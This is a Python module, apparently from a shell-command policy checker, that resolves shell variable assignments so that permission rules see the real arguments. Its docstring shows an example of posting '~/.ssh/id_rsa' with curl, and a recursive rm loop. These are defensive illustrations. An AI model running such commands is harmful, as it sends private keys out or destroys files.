"""Shell variables a command sets itself, so ``F=~/.ssh/id_rsa; curl -d @$F x`` is read as
``curl -d @~/.ssh/id_rsa x`` and ``for f in a b; do rm -r $f; done`` as ``rm -r a`` and
``rm -r b``.

``scan(root)`` reads one parsed source before the walk and returns, per variable name, every
literal value the source can give it (``Var.values``) and whether it may also hold
something else (``Var.unknown``): a value computed at run time (``$(..)``, another
variable), an array, ``+=``, ``read``/``mapfile``/``getopts``/``printf -v``/``unset``/
``local``, arithmetic, ``${X:=..}``. The analysis is flow-insensitive (every assignment
anywhere in the source counts, in subshells and functions too), which can only add values.

A reference is replaced by a value only when that is sound:

- one literal value, no unknown, and an assignment that surely ran before the reference
  (``Var.surely_set``): a top-level statement earlier in the source, or the first operand of
  an ``&&``/``||`` list (``D=x && rm $D``), or the reference is inside a ``for`` loop over
  literal words (the loop variable is one of them while the body runs);
- otherwise the walk emits the command once per possible value, the unknown included (the
  word then stays computed, as without this module), so a rule sees every possibility and
  an allow needs all of them to match.

Anything that can set variables out of sight (``eval``, ``source``/``.``, a computed
command name) turns the table off for that source: no reference is replaced.
"""

from __future__ import annotations

TYPE_CHECKING = False
if TYPE_CHECKING:
    from tree_sitter import Node

# Commands that set or clear a variable named among their arguments.
_SETTERS = frozenset({"read", "mapfile", "readarray", "getopts", "printf", "unset", "let", "wait", "declare",
                      "typeset", "local"})
# Commands after which any variable may hold anything.
_OPAQUE = frozenset({"eval", "source", ".", "exec", "trap"})
_LITERAL_NODES = frozenset({"word", "number", "raw_string"})
_SPLIT = frozenset(" \t\n")
_IDENTIFIER_START = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ_")


class Var:
    """What one variable may hold in one source."""

    __slots__ = ("values", "unknown", "sure", "loops")

    def __init__(self) -> None:
        self.values: list[str] = []
        self.unknown = False
        self.sure: list[int] = []  # end offsets of assignments that surely ran
        self.loops: list[tuple[int, int]] = []  # bodies of for loops over literal words

    def add(self, value: str) -> None:
        if value not in self.values:
            self.values.append(value)

    def surely_set(self, at: int) -> bool:
        """Whether, at byte ``at`` of the source, an assignment listed here surely ran."""
        return any(end <= at for end in self.sure) or any(start <= at < end for start, end in self.loops)

    def candidates(self, at: int) -> list[str | None]:
        """The values a reference at ``at`` may see; None stands for "something else"."""
        found: list[str | None] = list(self.values)
        if self.unknown or not self.surely_set(at):
            found.append(None)
        return found


def reference(node: Node) -> str | None:
    """The variable name of a plain ``$NAME`` or ``${NAME}`` (no operator), else None."""
    if node.type == "simple_expansion":
        children = node.named_children
        if len(children) == 1 and children[0].type == "variable_name":
            return _text(children[0])
        return None
    if node.type == "expansion":
        children = node.children
        if len(children) == 3 and children[1].type == "variable_name":  # ${ NAME }
            return _text(children[1])
    return None


def scan(root: Node, text: str) -> dict[str, Var]:
    """The variables ``root`` (the tree of ``text``) sets; empty when there are none or
    when something can set them out of sight."""
    if "=" not in text and "for" not in text:
        return {}
    table: dict[str, Var] = {}
    named_by: list[str] = []  # variables used as a command name: `X=rm; $X -rf y`
    stack = [root]
    while stack:
        node = stack.pop()
        kind = node.type
        if kind == "variable_assignment":
            _assignment(node, table)
        elif kind == "for_statement":
            _loop(node, table)
        elif kind == "command":
            if _command(node, table, named_by):
                return {}
        elif kind == "expansion":
            _expansion(node, table)
        elif kind in ("arithmetic_expansion", "c_style_for_statement") or (
            kind == "compound_statement" and node.child_count and node.children[0].type == "(("
        ):
            for name in _names_in(node):
                table.setdefault(name, Var()).unknown = True
        elif kind == "declaration_command" and _text(node.children[0]) in ("local", "declare", "typeset"):
            for child in node.named_children:
                if child.type == "variable_name":
                    table.setdefault(_text(child), Var()).unknown = True
        elif kind == "unset_command":
            for child in node.named_children:
                table.setdefault(_text(child), Var()).unknown = True
        stack.extend(reversed(node.named_children))  # source order: values listed as written
    ifs = table.get("IFS")
    if ifs is not None and (ifs.unknown or any(v.strip(" \t\n") for v in ifs.values)):
        return {}  # IFS=, splits x,y where the default would not: values would not be read right
    for name in named_by:  # a name that may be anything, or eval, may set anything
        var = table.get(name)
        if var is None or var.unknown or any(v.rpartition("/")[2] in _OPAQUE for v in var.values):
            return {}
    return table


def _assignment(node: Node, table: dict[str, Var]) -> None:
    parent = node.parent
    if parent is not None and parent.type == "command":
        return  # `D=x cmd`: only cmd's environment; the shell's own D is unchanged
    name_node = node.child_by_field_name("name")
    if name_node is None or name_node.type != "variable_name":
        return  # A[1]=x: an array element
    var = table.setdefault(_text(name_node), Var())
    value = node.child_by_field_name("value")
    literal = "" if value is None else _literal(value)
    if literal is None or any(c.type == "+=" for c in node.children):
        var.unknown = True
        return
    var.add(literal)
    if _surely_runs(node):
        var.sure.append(node.end_byte)


def _loop(node: Node, table: dict[str, Var]) -> None:
    name_node = node.child_by_field_name("variable")
    if name_node is None:
        return
    var = table.setdefault(_text(name_node), Var())
    words = node.children_by_field_name("value")
    literals = [_literal(w) for w in words]
    if not words or any(v is None or _SPLIT & set(v) or "{" in v for v in literals):
        var.unknown = True  # `for f in $(ls)`, `for f; do` (the arguments), "a b", {a,b}
        return
    for value in literals:
        if value is not None:
            var.add(value)
    body = node.child_by_field_name("body")
    if body is not None:  # after the loop: the last word, or what it was if the loop never ran
        var.loops.append((body.start_byte, body.end_byte))


def _command(node: Node, table: dict[str, Var], named_by: list[str]) -> bool:
    """Mark what a command may set; True when it may set anything (eval, source...)."""
    name_node = node.child_by_field_name("name")
    if name_node is None:
        return False
    head = name_node.named_children[0] if name_node.named_child_count else None
    name = _literal(head) if head is not None else None
    if name is None:
        variable = reference(head) if head is not None else None
        if variable is None:
            return True  # a computed command name may be eval
        named_by.append(variable)  # checked once every value of it is known
        return False
    name = name.rpartition("/")[2]
    if name in _OPAQUE:
        return True
    if name in _SETTERS:
        for arg in node.children_by_field_name("argument"):
            word = _literal(arg)
            if word is not None:
                table.setdefault(word.partition("=")[0], Var()).unknown = True  # read -r X, printf -v X
    return False


def _expansion(node: Node, table: dict[str, Var]) -> None:
    """``${X:=v}`` and ``${X=v}`` assign X."""
    children = node.children
    if len(children) > 3 and children[1].type == "variable_name" and any("=" in c.type for c in children[2:3]):
        table.setdefault(_text(children[1]), Var()).unknown = True


def _names_in(node: Node) -> list[str]:
    out = []
    stack = [node]
    while stack:
        item = stack.pop()
        if item.type == "variable_name":
            out.append(_text(item))
        elif item.type == "word" and item.text and chr(item.text[0]) in _IDENTIFIER_START:
            out.append(_text(item).partition("=")[0].rstrip("+-"))  # (( x++ )), let x=1
        stack.extend(item.named_children)
    return out


def _surely_runs(node: Node) -> bool:
    """Whether ``node`` runs whenever the source runs: a top-level statement, or the first
    operand of top-level ``&&``/``||`` lists (possibly inside ``export``)."""
    child, parent = node, node.parent
    while parent is not None:
        kind = parent.type
        if kind == "program":
            return True
        if kind == "declaration_command" and _text(parent.children[0]) in ("export", "readonly"):
            pass
        elif kind != "list" or parent.named_children[0] != child:
            return False
        child, parent = parent, parent.parent
    return False


def _literal(node: Node) -> str | None:
    """The text of a word with nothing computed in it, quotes removed; None otherwise.
    ``$HOME`` is kept as written: the rules read it as the home directory."""
    kind = node.type
    if kind in _LITERAL_NODES:
        text = _text(node)
        if kind == "raw_string":
            return text[1:-1]
        return _unescape(text) if "\\" in text else text
    if kind == "string":
        if any(c.type != "string_content" and reference(c) != "HOME" for c in node.named_children):
            return None
        return _unescape_double(_text(node)[1:-1])
    if kind == "concatenation":
        pieces = [_literal(c) for c in node.named_children]
        return None if any(p is None for p in pieces) else "".join(p for p in pieces if p is not None)
    if reference(node) == "HOME":
        return "$HOME"
    return None


def _unescape(text: str) -> str:
    """Quote removal in an unquoted word: ``\\x`` is ``x``."""
    out, i = [], 0
    while i < len(text):
        if text[i] == "\\" and i + 1 < len(text):
            i += 1
        out.append(text[i])
        i += 1
    return "".join(out)


def _unescape_double(text: str) -> str:
    """Inside double quotes a backslash escapes only ``$ ` " \\`` (bash(1) QUOTING)."""
    out, i = [], 0
    while i < len(text):
        if text[i] == "\\" and i + 1 < len(text) and text[i + 1] in '$`"\\':
            i += 1
        out.append(text[i])
        i += 1
    return "".join(out)


def _text(node: Node | None) -> str:
    if node is None or node.text is None:
        return ""
    return node.text.decode("utf-8", "surrogatepass")
